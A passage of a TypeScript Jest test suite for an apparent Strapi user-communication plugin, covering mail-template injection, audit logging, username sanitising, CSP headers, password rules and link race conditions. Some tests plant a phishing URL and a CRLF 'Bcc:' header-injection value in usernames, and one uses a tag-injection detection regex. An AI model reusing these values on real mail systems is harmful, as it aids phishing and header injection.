        const mail = await activationMailTo(app, created.email);
        expect(mail.html).not.toContain(ATTACKER);
        expect(mail.html).not.toMatch(/<(?:img|script|link|iframe|style)\b|\son\w+=|src=|url\(/i);
        // The token is in the mail once, in the href of its link.
        const token = tokenFromMail(mail);
        expect(mail.html.split(token)).toHaveLength(2);
        expect(mail.html).toMatch(new RegExp(`<a href="[^"]*${token}[^"]*">Activate</a>`));
      } finally {
        await app.http().delete(TEMPLATE).set('Authorization', admin.auth);
      }
    });
  });

  describe('an audit trail records admin account actions', () => {
    it('F13: an admin who sets a permanent password is named in the audit row, and the user gets no e-mail', async () => {
      const user = await createActiveUser(app);
      const permanent = 'Quietly-Set-Passw0rd-13';
      const set = await adminApi(
        'post',
        `/user-communication/users/${user.documentId}/password`
      ).send({ password: permanent, oneTime: false });
      expect(set.status).toBe(200);
      // The admin's password works: the account is now theirs to hand over, or to use.
      expect((await logIn(app, user.email, permanent)).status).toBe(200);
      await deliver();
      expect(app.mail.to(user.email)).toHaveLength(0);

      // Whoever reviews the trail (audit.read and nothing else) sees who did it to whom.
      const auditor = await createAdmin(app, {
        roleIds: [await createAdminRole(app, ['plugin::user-communication.audit.read'])],
      });
      const trail = await adminApi(
        'get',
        `/user-communication/audit?userId=${user.id}&action=users.set-password`,
        auditor
      );
      expect(trail.status).toBe(200);
      expect(trail.body.results).toEqual([
        expect.objectContaining({
          action: 'users.set-password',
          actorId: admin.id,
          actorEmail: admin.email,
          userId: user.id,
          details: { oneTime: false, generated: false },
        }),
      ]);
      expect(JSON.stringify(trail.body)).not.toContain(permanent);
      expect(logged.some((line) => line.includes(permanent))).toBe(false);

      // The acting admin, a super admin, cannot take the row back.
      const [row] = trail.body.results as Array<{ id: number }>;
      for (const url of [
        `/user-communication/audit/${row.id}`,
        `/content-manager/collection-types/plugin::user-communication.audit-event/${row.id}`,
      ]) {
        const removal = await app.http().delete(url).set('Authorization', admin.auth);
        expect([404, 405]).toContain(removal.status);
      }
      const again = await adminApi('get', `/user-communication/audit?userId=${user.id}`, auditor);
      expect(again.body.results).toEqual(trail.body.results);
    });
  });

  describe('display values are safe in every part', () => {
    const PHISHING = 'Your account will be closed. Confirm at https://evil.example/login';
    // Control characters other than the tab and line ends the templates themselves hold.
    const CONTROL = /[^\P{Cc}\t\n\r]/u;

    it('F12: a stranger who registers with your address writes nothing into the mail you get', async () => {
      const victim = `victim-${Date.now()}@example.com`;
      const password = 'Strangers-Own-Passw0rd';
      const registered = await app
        .http()
        .post('/api/auth/local/register')
        .send({ email: victim, username: `Jane,\n\n${PHISHING}\n\n`, password });
      expect(registered.status).toBe(200);
      const activation = await activationMailTo(app, victim);
      // Logging in with the password they chose activates the account (users-permissions does
      // not ask for e-mail confirmation by default); a reset mail then goes to the victim.
      expect((await logIn(app, victim, password)).status).toBe(200);
      await app.http().post('/api/auth/forgot-password').send({ email: victim });
      const reset = await mailTo(app, victim, RESET_SUBJECT);
      for (const mail of [activation, reset]) {
        for (const part of [mail.subject, mail.text, mail.html]) {
          expect(part).not.toContain('evil.example');
          expect(part).not.toContain('will be closed');
        }
        expect(mail.text).toContain(`Hello ${victim},`);
        expect(mail.html).toContain(`Hello ${victim},`);
      }
    });

    it('an activated user’s name loses its control characters and is capped in the text and HTML parts', async () => {
      const user = await createActiveUser(app);
      const lead = 'Jane\r\n\r\nBcc: someone\u0007\u202e ';
      const username = `${lead}${'A'.repeat(255 - lead.length)}`;
      await app.strapi.db.query(USER_UID).update({ where: { id: user.id }, data: { username } });
      expect((await logIn(app, user.email, USER_PASSWORD)).status).toBe(200);
      await app.http().post('/api/auth/forgot-password').send({ email: user.email });
      const mail = await mailTo(app, user.email, RESET_SUBJECT);
      const shown = `${`Jane Bcc: someone ${'A'.repeat(64)}`.slice(0, 63)}…`;
      for (const part of [mail.text, mail.html]) {
        expect(part).toContain(`Hello ${shown},`);
        expect(part).not.toContain('A'.repeat(64));
        expect(part).not.toMatch(CONTROL);
        expect(part).not.toContain('\u202e');
      }
    });
  });
});

describe('smaller findings: reminder preview, concurrent links, account page CSP', () => {
  let app: TestApp;
  let admin: AdminSession;

  beforeAll(async () => {
    app = await bootStrapi();
    admin = await createAdmin(app);
  });

  afterAll(async () => {
    await app?.stop();
  });

  const TOKEN = 'plugin::user-communication.token';

  /** Tokens of the user and purpose that would still open a page: unused, unrevoked, unexpired. */
  const liveTokens = (userId: number, purpose: 'activation' | 'password-reset') =>
    app.strapi.db.query(TOKEN).count({
      where: {
        userId,
        purpose,
        usedAt: null,
        supersededAt: null,
        expiresAt: { $gt: app.clock.now().toJSDate() },
      },
    });

  describe('the reminder preview shows names and addresses only to admins who may read users', () => {
    it('an admin with settings.read sees how many, but no name or address', async () => {
      const due = await seedUser(app, { createdAt: '2020-01-01T00:00:00Z' });
      const settingsOnly = await createAdmin(app, {
        roleIds: [await createAdminRole(app, ['plugin::user-communication.settings.read'])],
      });
      const preview = await app
        .http()
        .get('/user-communication/reminders/preview')
        .set('Authorization', settingsOnly.auth);
      expect(preview.status).toBe(200);
      expect(preview.body).toMatchObject({ count: 1, sample: null });
      expect(JSON.stringify(preview.body)).not.toContain(due.email);
      expect(JSON.stringify(preview.body)).not.toContain(due.username);

      // The same admin, once allowed to read users in the Content Manager, sees who.
      const readerRole = await createAdminRole(app, ['plugin::user-communication.settings.read']);
      await app.strapi.service('admin::role').addPermissions(readerRole, [
        {
          action: 'plugin::content-manager.explorer.read',
          subject: USER_UID,
          properties: { fields: ['username', 'email'] },
          conditions: [],
        },
      ]);
      const reader = await createAdmin(app, { roleIds: [readerRole] });
      const shown = await app
        .http()
        .get('/user-communication/reminders/preview')
        .set('Authorization', reader.auth);
      expect(shown.status).toBe(200);
      expect(shown.body.sample).toEqual([
        expect.objectContaining({ id: due.id, email: due.email, username: due.username }),
      ]);
    });
  });

  describe.each(ISOLATIONS)(
    'two concurrent link requests leave exactly one live link (%s)',
    (isolation) => {
      inIsolation(() => app, isolation);

      it('ten concurrent admin resends leave one live activation link', async () => {
        const user = await seedUser(app, { createdAt: '2026-01-01T00:00:00Z' });
        const answers = await Promise.all(
          Array.from({ length: 10 }, () =>
            app
              .http()
              .post('/user-communication/activation/resend')
              .set('Authorization', admin.auth)
              .send({ userIds: [String(user.id)] })
          )
        );
        expect(answers.map((answer) => answer.status)).toEqual(Array(10).fill(200));
        expect(await liveTokens(user.id, 'activation')).toBe(1);
      });

      it('ten concurrent admin resets leave one live reset link', async () => {
        const user = await seedUser(app, { createdAt: '2026-01-01T00:00:00Z' });
        const answers = await Promise.all(
          Array.from({ length: 10 }, () =>
            app
              .http()
              .post(`/user-communication/users/${user.id}/reset-password`)
              .set('Authorization', admin.auth)
              .send({})
          )
        );
        expect(answers.map((answer) => answer.status)).toEqual(Array(10).fill(202));
        expect(await liveTokens(user.id, 'password-reset')).toBe(1);
      });
    }
  );

  describe('the built-in account pages send their own strict Content-Security-Policy', () => {
    const STRICT_CSP =
      "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; " +
      "form-action 'self'; frame-ancestors 'none'; base-uri 'none'";

    it.each(['/user-communication/activate', '/user-communication/reset-password'])(
      '%s answers with the strict policy, whatever the app-wide one is',
      async (page) => {
        const response = await app.http().get(page);
        expect(response.status).toBe(200);
        expect(response.headers['content-security-policy']).toBe(STRICT_CSP);
      }
    );
  });
});

describe('passwords set outside the plugin: the same rules and the same consequences', () => {
  let app: TestApp;
  let admin: AdminSession;

  beforeAll(async () => {
    app = await bootStrapi();
    admin = await createAdmin(app);
  });

  afterAll(async () => {
    await app?.stop();
  });

  const adminApi = (method: 'post' | 'put', url: string) =>
    app.http()[method](url).set('Authorization', admin.auth);
  const me = (jwt: string) => app.http().get('/api/users/me').set('Authorization', `Bearer ${jwt}`);
  const usersWithEmail = (email: string) =>
    app.strapi.db.query(USER_UID).count({ where: { email: email.toLowerCase() } });
  const refusedPassword = (response: {
    status: number;
    body: { error?: { name?: string; details?: { errors?: Array<{ path: string[] }> } } };
  }) => {
    expect(response.status).toBe(400);
    expect(response.body.error?.name).toBe('ValidationError');
    expect(response.body.error?.details?.errors?.[0]?.path).toEqual(['password']);
  };

  /** A user who is logged in (access and refresh token) and holds a reset link mailed to them. */
  const loggedInWithResetLink = async () => {
    const user = await createActiveUser(app);
    const login = await logIn(app, user.email, USER_PASSWORD);
    expect(login.status).toBe(200);
    await app.http().post('/api/auth/forgot-password').send({ email: user.email });
    await settle(app);
    const code = resetTokenFrom(await mailTo(app, user.email, RESET_SUBJECT));
    const { jwt, refreshToken } = login.body as { jwt: string; refreshToken: string };
    return { user, jwt, refreshToken, code };
  };

  /** The link, the access token and the refresh token no longer work; the new password does. */
  const expectEverythingEnded = async (
    held: Awaited<ReturnType<typeof loggedInWithResetLink>>,
    newPassword: string
  ) => {
    const reset = await app.http().post('/api/auth/reset-password').send({
      code: held.code,
      password: 'Link-Holder-Passw0rd',
      passwordConfirmation: 'Link-Holder-Passw0rd',
    });
    expect(reset.status).toBe(400);
    expect((await me(held.jwt)).status).toBe(401);
    const refreshed = await app
      .http()
      .post('/api/auth/refresh')
      .send({ refreshToken: held.refreshToken });
    expect(refreshed.status).toBe(401);
    const fresh = await logIn(app, held.user.email, newPassword);
    expect(fresh.status).toBe(200);
    expect((await me(fresh.body.jwt)).status).toBe(200);
  };

  it("an admin clones a user with password 'a': 400 naming the field, nothing created", async () => {
    const source = await createActiveUser(app);
    for (const password of ['a', 'P@ssw0rd']) {
      const clone = newUserInput('clone');
      const response = await adminApi('post', `${CM_USERS}/clone/${source.documentId}`).send({
        username: clone.username,
        email: clone.email,
        password,
      });
      refusedPassword(response);
      expect(await usersWithEmail(clone.email)).toBe(0);
    }
  });

  it('an admin clones a user with a password that meets the rules: the clone logs in with it', async () => {
    const source = await createActiveUser(app);
    const clone = newUserInput('clone-ok');
    const response = await adminApi('post', `${CM_USERS}/clone/${source.documentId}`).send({
      username: clone.username,
      email: clone.email,
      password: clone.password,
    });
    expect(response.status).toBe(200);
    expect((await logIn(app, clone.email, clone.password)).status).toBe(200);
  });

  it('every Document Service write of a user is held to the rules', async () => {
    const user = await createActiveUser(app);
    const documents = app.strapi.documents(USER_UID);
    await expect(
      documents.update({ documentId: user.documentId, data: { password: 'P@ssw0rd' } as never })
    ).rejects.toMatchObject({ name: 'ValidationError' });
    const created = newUserInput('documents');
    await expect(
      documents.create({ data: { ...created, password: 'P@ssw0rd' } as never })
    ).rejects.toMatchObject({ name: 'ValidationError' });
    expect(await usersWithEmail(created.email)).toBe(0);
    expect((await logIn(app, user.email, USER_PASSWORD)).status).toBe(200);
  });

  it('an admin sets a password in the Content Manager: the reset link mailed before and the old sessions stop working', async () => {
    const held = await loggedInWithResetLink();
    const newPassword = 'Admin-Typed-Passw0rd-5';
    const edit = await adminApi('put', `${CM_USERS}/${held.user.documentId}`).send({
      password: newPassword,
    });
    expect(edit.status).toBe(200);
    await expectEverythingEnded(held, newPassword);
  });

  it('an integration sets a password with PUT /api/users/:id: the same', async () => {
    const held = await loggedInWithResetLink();
    const token = await createApiToken(app);
    const newPassword = 'Integration-Passw0rd-6';
    const update = await app
      .http()
      .put(`/api/users/${held.user.id}`)
      .set('Authorization', `Bearer ${token}`)
      .send({ password: newPassword });
    expect(update.status).toBe(200);
    await expectEverythingEnded(held, newPassword);
  });

  it('a server-side update of many users that changes the password: the same', async () => {
    const held = await loggedInWithResetLink();
    const newPassword = 'Server-Side-Passw0rd-7';
    const hash = await app.strapi
      .plugin('users-permissions')
      .service('user')
      .ensureHashedPasswords({ password: newPassword });
    await app.strapi.db
      .query(USER_UID)
      .updateMany({ where: { id: held.user.id }, data: { password: hash.password } });
    await expectEverythingEnded(held, newPassword);
  });

  it('an e-mail change alone keeps the sessions', async () => {
    const held = await loggedInWithResetLink();
    const edit = await adminApi('put', `${CM_USERS}/${held.user.documentId}`).send({
      email: `moved-${held.user.email}`,
    });
    expect(edit.status).toBe(200);
    expect((await me(held.jwt)).status).toBe(200);
  });
});

describe('link races: lock order, the address a link goes to, a reminder of a repeated cycle', () => {
  let app: TestApp;
  let admin: AdminSession;

  beforeAll(async () => {
    app = await bootStrapi();
    admin = await createAdmin(app);
  });

  afterAll(async () => {
    await app?.stop();
  });

  afterEach(() => {
    jest.restoreAllMocks();
    app.clock.reset();
  });

  const TOKEN = 'plugin::user-communication.token';
  const REMINDER = /miss you/i;
  const service = (name: string) => app.strapi.plugin('user-communication').service(name);
  const deliver = () => settle(app);
  const resend = (userId: number) =>
    app
      .http()
      .post('/user-communication/activation/resend')
      .set('Authorization', admin.auth)
      .send({ userIds: [String(userId)] });
  const adminReset = (userId: number) =>
    app
      .http()
      .post(`/user-communication/users/${userId}/reset-password`)
      .set('Authorization', admin.auth)
      .send({});
  const changeEmail = (userId: number, email: string) =>
    app.strapi.db.query(USER_UID).update({ where: { id: userId }, data: { email } });
  const reminderSettings = (noLoginReminder: Record<string, unknown>) =>
    app
      .http()
      .put('/user-communication/settings')
      .set('Authorization', admin.auth)
      .send({ noLoginReminder: { enabled: true, hourUtc: 6, ...noLoginReminder } });
  const liveActivationLinks = (userId: number) =>
    app.strapi.db.query(TOKEN).count({
      where: {
        userId,
        purpose: 'activation',
        usedAt: null,
        supersededAt: null,
        expiresAt: { $gt: app.clock.now().toJSDate() },
      },
    });

  describe.each(ISOLATIONS)(
    'redeeming a link while a new one is issued never deadlocks (%s)',
    (isolation) => {
      inIsolation(() => app, isolation);

      it('ten rounds of completing an activation while an admin resends it: no 500', async () => {
        for (let round = 0; round < 10; round += 1) {
          const user = await seedUser(app, { createdAt: '2026-01-01T00:00:00Z' });
          expect((await resend(user.id)).status).toBe(200);
          const token = tokenFromMail(await activationMailTo(app, user.email));
          const [completed, resent] = await Promise.all([
            activationApi(app).complete({
              token,
              password: USER_PASSWORD,
              passwordConfirmation: USER_PASSWORD,
            }),
            resend(user.id),
          ]);
          expect(completed.status).toBeLessThan(500);
          expect(resent.status).toBe(200);
        }
      });

      it('ten rounds of completing a reset while an admin sends another: no 500', async () => {
        for (let round = 0; round < 10; round += 1) {
          const user = await createActiveUser(app);
          expect((await adminReset(user.id)).status).toBe(202);
          await deliver();
          const code = resetTokenFrom(await mailTo(app, user.email, RESET_SUBJECT));
          const [completed, reset] = await Promise.all([
            app
              .http()
              .post('/api/auth/reset-password')
              .send({
                code,
                password: `${USER_PASSWORD}x`,
                passwordConfirmation: `${USER_PASSWORD}x`,
              }),
            adminReset(user.id),
          ]);
          expect(completed.status).toBeLessThan(500);
          expect(reset.status).toBe(202);
        }
      });

      it('ten rounds of a first login while an admin resends activation: no live activation link after the login', async () => {
        for (let round = 0; round < 10; round += 1) {
          const user = await createActiveUser(app);
          const [login, resent] = await Promise.all([
            logIn(app, user.email, USER_PASSWORD),
            resend(user.id),
          ]);
          expect(login.status).toBe(200);
          expect(resent.status).toBe(200);
          expect(await liveActivationLinks(user.id)).toBe(0);
        }
      });
    }
  );

  describe('a link goes to the address the user has when it is issued', () => {
    it('an e-mail change between the resend reading the user and issuing the link: the link goes to the new address', async () => {
      const user = await seedUser(app, { createdAt: '2026-01-01T00:00:00Z' });
      const moved = `moved-${user.username}@example.com`;
      const users = service('users') as UsersService;
      const findByKeys = users.findByKeys;
      jest.spyOn(users, 'findByKeys').mockImplementationOnce(async (keys: string[]) => {
        const found = await findByKeys(keys);
        await changeEmail(user.id, moved);
        return found;
      });
      expect((await resend(user.id)).status).toBe(200);
      await deliver();
      expect(app.mail.to(user.email)).toHaveLength(0);
      const token = tokenFromMail(await activationMailTo(app, moved));
      expect((await activationApi(app).verify({ token })).status).toBe(200);
    });

    it('a first login between the resend reading the user and issuing the link: answered skipped, no link, no mail', async () => {
      const user = await createActiveUser(app);
      const users = service('users') as UsersService;
      const findByKeys = users.findByKeys;
      jest.spyOn(users, 'findByKeys').mockImplementationOnce(async (keys: string[]) => {
        const found = await findByKeys(keys);
        expect((await logIn(app, user.email, USER_PASSWORD)).status).toBe(200);
        return found;
      });
      const resent = await resend(user.id);
      expect(resent.status).toBe(200);
      expect(resent.body.results).toEqual([
        { id: String(user.id), status: 'skipped', reason: 'has-logged-in' },
      ]);
      await deliver();
      expect(app.mail.to(user.email)).toHaveLength(0);
      expect(await liveActivationLinks(user.id)).toBe(0);
    });

    it('an e-mail change between an admin reset reading the user and issuing the link: the link goes to the new address', async () => {
      const user = await createActiveUser(app);
      const moved = `moved-${user.username}@example.com`;
      const users = service('users') as UsersService;
      const findByKey = users.findByKey;
      jest.spyOn(users, 'findByKey').mockImplementationOnce(async (key: string) => {
        const found = await findByKey(key);
        await changeEmail(user.id, moved);
        return found;
      });
      expect((await adminReset(user.id)).status).toBe(202);
      await deliver();
      expect(app.mail.to(user.email)).toHaveLength(0);
      const code = resetTokenFrom(await mailTo(app, moved, RESET_SUBJECT));
      const verified = await app
        .http()
        .post('/api/user-communication/password-reset/verify')
        .send({ token: code });
      expect(verified.status).toBe(200);
    });

    it('an e-mail change between the reminder job reading a page and queuing it: the reminder goes to the new address', async () => {
      await reminderSettings({ intervalDays: 30 });
      app.clock.set('2026-10-01T06:00:00.000Z');
      const user = await seedUser(app, { createdAt: '2026-08-01T00:00:00Z' });
      const moved = `moved-${user.username}@example.com`;
      // The page's transaction is the run's first: the change commits after the page was read.
      const transaction = app.strapi.db.transaction.bind(app.strapi.db);
      let changed = false;
      jest.spyOn(app.strapi.db, 'transaction').mockImplementation((async (
        ...args: Parameters<typeof transaction>
      ) => {
        if (!changed) {
          changed = true;
          await changeEmail(user.id, moved);
        }
        return transaction(...args);
      }) as typeof transaction);
      expect((await service('reminders').run('schedule')).status).toBe('done');
      expect(changed).toBe(true);
      await deliver();
      expect(app.mail.to(user.email)).toHaveLength(0);
      const [reminder] = app.mail.to(moved).filter((mail) => REMINDER.test(mail.subject));
      expect((await activationApi(app).verify({ token: tokenFromMail(reminder) })).status).toBe(
        200
      );
    });
  });

  it('a reminder dropped as a repeat of its cycle (the interval changed) leaves the mailed link working', async () => {
    await reminderSettings({ intervalDays: 2 });
    const user = await seedUser(app, { createdAt: '2026-03-01T06:00:00Z' });
    // Day 4 of an interval of 2: cycle 2.
    app.clock.set('2026-03-05T06:00:00.000Z');
    await service('reminders').run('schedule');
    await deliver();
    const [mailed] = app.mail.to(user.email).filter((mail) => REMINDER.test(mail.subject));
    const token = tokenFromMail(mailed);

    // Day 7 of an interval of 3: due again, and cycle 2 again, so its key is taken.
    expect((await reminderSettings({ intervalDays: 3 })).status).toBe(200);
    app.clock.set('2026-03-08T06:00:00.000Z');
    await service('reminders').run('schedule');
    await deliver();
    expect(app.mail.to(user.email).filter((mail) => REMINDER.test(mail.subject))).toHaveLength(1);
    expect((await activationApi(app).verify({ token })).status).toBe(200);
  });
});
